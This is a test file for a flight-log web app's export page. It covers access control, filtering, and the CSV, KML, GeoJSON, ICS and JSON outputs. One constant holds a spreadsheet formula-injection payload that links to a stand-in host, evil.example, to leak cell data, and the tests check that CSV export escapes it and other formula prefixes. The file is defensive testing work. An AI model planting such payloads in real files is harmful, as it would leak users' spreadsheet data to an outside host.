import ICAL from 'ical.js'
import Papa from 'papaparse'
import { describe, expect, test } from 'vitest'
import { browserSession } from '../../support/browser-session.ts'
import { referenceRows } from '../../support/factory.ts'
import { signedIn } from '../../support/pages.ts'

const HOSTILE = '=HYPERLINK("http://evil.example/"&A1)'

async function setUp() {
  const instance = await signedIn({ now: () => Date.parse('2026-05-03T10:00:00Z') })
  const { airports, airlines } = referenceRows(instance.db)
  const api = instance.as(instance.key(instance.owner.id))
  const other = instance.user({ username: 'otto', displayName: 'Otto' })
  const add = async (body: object) => {
    const { status, body: answer } = await api.post('/flights', body)
    expect(status).toBe(201)
    return answer.data.id as number
  }
  await add({
    date: '2025-05-03',
    fromId: airports.ZRH,
    toId: airports.LIS,
    departure: '2025-05-03T10:20:00Z',
    arrival: '2025-05-03T13:10:00Z',
    airlineId: airlines.SWR,
    flightNumber: 'LX2084',
    note: HOSTILE,
    passengers: [{ userId: instance.owner.id, seatNumber: '@7A' }, { guestName: '+Anna, "the guest"' }],
    track: { coordinates: [[8.5, 47.4, 400], [0, 44, 11000], [-9.1, 38.7, 100]], sourceFormat: 'gpx' }, // biome-ignore format: a line
  })
  await add({
    date: '2024-01-01',
    datePrecision: 'month',
    fromId: airports.HND,
    toId: airports.LAX,
    note: '<b>&\u0001',
  })
  await instance.as(other).post('/flights', { date: '2025-01-01', fromId: airports.JFK, toId: airports.LHR })
  return { ...instance, api, airports }
}

describe('export page', () => {
  test('requires a sign-in and the permission; unknown formats return 404', async () => {
    const { app, browser, services, user } = await setUp()
    const visitor = browserSession(app)
    for (const page of ['/export', '/export/csv']) {
      expect((await visitor.get(page)).location).toBe(`/login?next=${encodeURIComponent(page)}`)
      const reader = browserSession(app)
      reader.jar.set('paxlog', await services.sessions.start(user({ role: ['flight.read.own'] }).id))
      expect((await reader.get(page)).status).toBe(403)
    }
    expect((await browser.get('/export/xlsx')).status).toBe(404)
  })

  test('exports exactly the flights that match the filter', async () => {
    const { browser } = await setUp()
    expect((await browser.get('/export')).html).toContain('The file will contain 2 flights.')
    const { html } = await browser.get('/export?year=2025')
    expect(html).toContain('The file will contain 1 flight.')
    const files = [...html.matchAll(/href="(\/export\/\w+\?[^"]+)" download/g)].map(([, path]) => path!)
    expect(files).toHaveLength(5)
    for (const path of files) {
      const { status, headers, html: file } = await browser.get(path)
      const format = /\/export\/(\w+)/.exec(path)![1]
      expect([path, status, headers['content-disposition']]).toEqual([
        path,
        200,
        `attachment; filename="paxlog-2026-05-03.${format}"`,
      ])
      expect(file).toContain('LX2084')
      expect(file).not.toContain('HND')
      expect(file).not.toContain('JFK')
    }
    expect((await browser.get('/export?text=xyzzy')).html).toContain('No flights match')
  })

  test('JSON equals the export of the API', async () => {
    const { browser, api } = await setUp()
    expect((await browser.get('/export/json')).html).toBe((await api.get('/flights/export')).text)
  })

  test('CSV has one row per flight with local times and no formulas', async () => {
    const { browser } = await setUp()
    const { html } = await browser.get('/export/csv')
    expect(html.startsWith('\uFEFFDate,')).toBe(true)
    const { data, errors } = Papa.parse<Record<string, string>>(html.slice(1), { header: true, skipEmptyLines: true })
    expect([errors, data.length]).toEqual([[], 2])
    expect(data[0]).toMatchObject({
      Date: '2025-05-03',
      From: 'ZRH',
      To: 'LIS',
      'Departure (local)': '2025-05-03 12:20',
      'Arrival (local)': '2025-05-03 14:10',
      'Duration (min)': '170',
      'Seat number': "'@7A",
      With: `'+Anna, "the guest"`,
      Note: `'${HOSTILE}`,
    })
    expect(data[1]).toMatchObject({ Date: '2024-01', 'Departure (local)': '' })
    for (const cell of data.flatMap((row) => Object.values(row))) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  test.each(['=', '+', '-', '@', '\t', '\r'])('CSV quotes a note that begins with %j as text', async (first) => {
    const { browser, api, airports } = await setUp()
    const note = `${first}1+1`
    const body = { date: '2023-01-01', fromId: airports.ZRH, toId: airports.LIS, note }
    expect((await api.post('/flights', body)).body.data.note).toBe(note)
    const { html } = await browser.get('/export/csv?year=2023')
    expect(html).toContain(`,"'${note}"\r\n`)
    const { data } = Papa.parse<Record<string, string>>(html.slice(1), { header: true, newline: '\r\n' })
    expect(data[0]!.Note).toBe(`'${note}`)
  })

  test('KML has the track or else the route, and is well-formed', async () => {
    const { browser } = await setUp()
    const { html } = await browser.get('/export/kml')
    expect(html.match(/<Placemark>/g)).toHaveLength(2)
    expect(html).toContain('<altitudeMode>absolute</altitudeMode><coordinates>8.5,47.4,400 0,44,11000 -9.1,38.7,100<')
    expect(html).toMatch(/<tessellate>1<\/tessellate><coordinates>139.\d+,35.\d+ -118.\d+,33.\d+</)
    // All tags are balanced.
    const open: string[] = []
    for (const [, end, name, selfClosing] of html.matchAll(/<(\/?)(\w+)[^>]*?(\/?)>/g)) {
      if (end) expect(open.pop()).toBe(name)
      else if (!selfClosing) open.push(name!)
    }
    expect(open).toEqual([])
  })

  test('GeoJSON cuts routes at the 180th meridian and distinguishes tracks from great circles', async () => {
    const { browser } = await setUp()
    const { features } = JSON.parse((await browser.get('/export/geojson')).html)
    expect(features.map(({ geometry }: { geometry: { type: string } }) => geometry.type)).toEqual([
      'LineString',
      'MultiLineString',
    ])
    expect(features[0].properties).toMatchObject({ name: 'LX2084 ZRH – LIS', date: '2025-05-03', line: 'track' })
    expect(features[1].properties).toMatchObject({ date: '2024-01', line: 'great circle', flightNumber: null })
    const empty = JSON.parse((await browser.get('/export/geojson?text=xyzzy')).html)
    expect(empty).toEqual({ type: 'FeatureCollection', features: [] })
  })

  test('ICS contains the flights with a known day', async () => {
    const { browser } = await setUp()
    const calendar = new ICAL.Component(ICAL.parse((await browser.get('/export/ics')).html))
    const events = calendar.getAllSubcomponents('vevent')
    expect(events.map((event) => event.getFirstPropertyValue('summary'))).toEqual(['LX2084 ZRH → LIS'])
  })

  test('exports a long track completely', async () => {
    const { browser, api, airports } = await setUp()
    const coordinates = Array.from({ length: 25_000 }, (_, index) => [index / 1000, 1])
    const body = {
      date: '2023-01-01',
      fromId: airports.ZRH,
      toId: airports.LIS,
      track: { coordinates, sourceFormat: 'gpx' },
    }
    expect((await api.post('/flights', body)).status).toBe(201)
    const { features } = JSON.parse((await browser.get('/export/geojson?year=2023')).html)
    expect(features[0].geometry.coordinates).toEqual(coordinates)
    const { html } = await browser.get('/export/kml?year=2023')
    expect(/<coordinates>([^<]*)</.exec(html)![1]!.split(' ')).toHaveLength(25_000)
  })
})
